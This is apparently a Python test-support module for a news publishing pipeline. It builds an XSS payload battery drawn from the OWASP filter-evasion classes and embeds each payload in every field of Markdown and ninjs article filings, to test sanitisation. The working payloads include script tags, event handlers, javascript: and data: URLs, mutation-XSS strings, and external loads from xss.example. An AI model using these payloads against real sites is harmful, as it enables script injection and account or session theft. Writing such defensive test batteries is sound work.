"""The payload battery: the OWASP XSS cheat sheet's classes, and the filings that carry them in every field.

Each :class:`Payload` is filed as a journalist (or a compromised CMS) could
file it, in every field a filer controls, by both formats:

- a Markdown filing: title, summary, authors, tags, image alt, caption and
  credit, correction, and the payload as raw HTML in the Markdown body; the
  image URL carries it in its query;
- a ninjs filing: the same fields under ninjs names (``uri``, whose last part
  would be the id if it were a safe one, ``headline``,
  ``description_text``, ``byline``, ``subject``, ``associations.featureimage``,
  ``ednote``) and the payload in ``body_html``;
- probes that must be refused at filing: the payload as the slug, and for the
  payloads that are URLs, as the image URL.

Every field's text starts with a marker naming the field and the payload
(``T3m`` the Markdown filing's title, ``S3n`` the ninjs one's summary...), so a reader's check can find exactly that
field's visible text. Used by :mod:`tests.support.battery` (which files them,
builds the surfaces and reads them) and through it by ``tests/test_payloads.py``
and ``python -m bench.payloads``.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field

import yaml

from newsroom.ingest.ninjs import id_from_uri
from tests.support.readers import SPOOFING

PUBLISHED = "2025-06-30T10:00:00+01:00"  # the day before the battery's clock: in the digest and the news sitemap
SECTION = "diplomatie"


@dataclass(frozen=True)
class Payload:
    kind: str  # the class (a row of the matrix)
    text: str  # what goes into the text fields and the body
    url: str | None = None  # the payload as a URL, for the image URL and the body's Markdown links


def _p(kind: str, *texts: str) -> list[Payload]:
    return [Payload(kind, t) for t in texts]


def _u(kind: str, *urls: str) -> list[Payload]:
    return [Payload(kind, f'<a href="{u}">lien piégé</a> <img src="{u}" alt="x">', u) for u in urls]


# The classes of https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
PAYLOADS: list[Payload] = [
    *_p(
        "script",
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        '<script type="application/ld+json">{"@type":"Person"}</script>',
    ),
    *_p(
        "event handler",
        "<img src=x onerror=alert(1)>",
        "<body onload=alert(1)>",
        '<div onmouseover="alert(1)">survol</div>',
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        '<a href="https://example.org/" onclick="alert(1)">lien</a>',
    ),
    *_u(
        "scheme",
        "javascript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        "data:image/svg+xml,<svg onload=alert(1)>",
        "mailto:redaction@example.org",  # fine in a link, not as an image
        "tel:+22921000000",
    ),
    *_u(
        "obfuscated scheme",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "&#x6A;avascript:alert(1)",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
        "java&#x09;script:alert(1)",
        "\x01javascript:alert(1)",
    ),
    *_p(
        "svg",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">lien</text></a></svg>',
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>',
    ),
    *_p(
        "css",
        '<div style="background:url(javascript:alert(1))">fond</div>',
        '<p style="width: expression(alert(1))">largeur</p>',
        "<style>@import 'https://xss.example/x.css'; body{background:url(\"javascript:alert(1)\")}</style>",
        '<link rel="stylesheet" href="javascript:alert(1)">',
    ),
    *_p(
        "attribute breakout",
        '" onmouseover="alert(1)',
        "'><script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "' autofocus onfocus='alert(1)",
        '"/><svg onload=alert(1)>',
    ),
    *_p(
        "script breakout",
        "</script><script>alert(1)</script>",
        "<!--<script>",
        "</SCRIPT ><img src=x onerror=alert(1)>",
        "\u2028\u2029</script\t>alert(1)",
        "</script/x><!--",
    ),
    *_p(
        "embed, frame, form",
        '<iframe src="javascript:alert(1)"></iframe>',
        '<object data="javascript:alert(1)"></object><embed src="data:text/html,<script>alert(1)</script>">',
        '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">Envoyer</button></form>',
        '<base href="javascript:alert(1)//">',
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
        '<video poster="javascript:alert(1)"><source src="javascript:alert(1)"></video>',
    ),
    *_p(
        "mXSS",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        '<noscript><a title="</noscript><img src=x onerror=alert(1)>">x</a></noscript>',
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    ),
    *_p(
        "bidi, invisible",
        "Facture \u202egpj.exe",
        "\u2066isolé\u2069 puis \u202bintégré\u202c et \u202aforcé\u202c",
        "rapport\u200b\u2060\ufeffcaché",
        "retour\u202d à gauche \u202c et \x1b[31mrouge",
    ),
]
KINDS: list[str] = list(dict.fromkeys(p.kind for p in PAYLOADS))

# the fields a filer controls, with the marker their text starts with
MARKERS = {
    "title": "T",
    "summary": "S",
    "author": "A",
    "tag": "G",
    "alt": "L",
    "caption": "P",
    "credit": "R",
    "correction": "C",
}


@dataclass(frozen=True)
class Filing:
    """One file to put in the inbox, and what must become of it."""

    name: str
    data: bytes
    article_id: str
    payload: Payload
    fields: dict[str, str] = field(default_factory=dict)  # field -> the text filed (before validation)
    refused_field: str | None = None  # a probe: must be quarantined naming this field


def article_id(index: int, fmt: str) -> str:
    return f"charge-{index:03d}-{fmt}"


def _fields(index: int, fmt: str, text: str) -> dict[str, str]:
    values = {name: f"{marker}{index}{fmt[0]} {text}" for name, marker in MARKERS.items()}
    values["correction"] = f"Correction {values['correction']}"  # a ninjs ednote is a correction when it says so
    return values


def _image_url(image_base: str, text: str) -> str:
    """The payload in the image URL's query, less what makes validation refuse a URL (the probes try those):
    control and invisible characters, character references."""
    return image_base + "?legende=" + re.sub(r"[\x00-\x1f\x7f-\x9f]", "", SPOOFING.sub("", text)).replace("&#", "&%23")


def _markdown(meta: Mapping[str, object], body: str) -> bytes:
    head = yaml.safe_dump(meta, allow_unicode=True, sort_keys=False, width=10_000)
    return f"---\n{head}---\n{body}".encode()


def _body(index: int, payload: Payload) -> str:
    link = payload.url or "https://example.org/"
    return f"Avant B{index}.\n\n{payload.text}\n\nAprès B{index} : [lien]({link}) et ![image]({link}).\n"


def filings(payloads: list[Payload], image_base: str) -> Iterator[Filing]:
    """Every filing of these payloads (indexes are their places in :data:`PAYLOADS`)."""
    for payload in payloads:
        index = PAYLOADS.index(payload)
        values = _fields(index, "md", payload.text)
        image = _image_url(image_base, payload.text)
        md_id, nj_id = article_id(index, "md"), article_id(index, "ninjs")
        meta: dict[str, object] = {
            "id": md_id,
            "title": values["title"],
            "section": SECTION,
            "published": PUBLISHED,
            "summary": values["summary"],
            "authors": [values["author"]],
            "tags": [values["tag"]],
            "image": image,
            "image_alt": values["alt"],
            "image_caption": values["caption"],
            "image_credit": values["credit"],
            "correction": values["correction"],
        }
        yield Filing(f"{md_id}.md", _markdown(meta, _body(index, payload)), md_id, payload, values)
        values = _fields(index, "ninjs", payload.text)
        uri = f"urn:newsml:echo-du-golfe:{nj_id}:{payload.text}"  # an id where ninjs allows one: its uri
        ninjs = {
            "uri": uri,
            "headline": values["title"],
            "description_text": values["summary"],
            "body_html": f"<p>Avant B{index}.</p>{payload.text}<p>Après B{index}.</p>",
            "firstcreated": PUBLISHED,
            "byline": [values["author"]],
            "subject": [{"name": "Diplomatie", "code": SECTION, "rel": "section"}, {"name": values["tag"]}],
            "ednote": values["correction"],
            "associations": {
                "featureimage": {
                    "uri": image,
                    "description_text": values["alt"],
                    "headline": values["caption"],
                    "byline": values["credit"],
                }
            },
        }
        data = json.dumps(ninjs, ensure_ascii=False, indent=1).encode()
        # ninjs has one text for the caption and, without description_text, the alt: the same here
        yield Filing(f"{nj_id}.json", data, id_from_uri(uri), payload, values)
        slug_id = article_id(index, "slug")
        probe = {"id": slug_id, "title": f"Sonde S{index}", "slug": payload.text, "section": SECTION}
        yield Filing(f"{slug_id}.md", _markdown(probe, f"Corps {index}.\n"), slug_id, payload, refused_field="slug")
        if payload.url is not None:
            url_id = article_id(index, "image")
            probe = {"id": url_id, "title": f"Sonde I{index}", "section": SECTION, "image": payload.url}
            data = _markdown(probe, f"Corps {index}.\n")
            yield Filing(f"{url_id}.md", data, url_id, payload, refused_field="image.url")
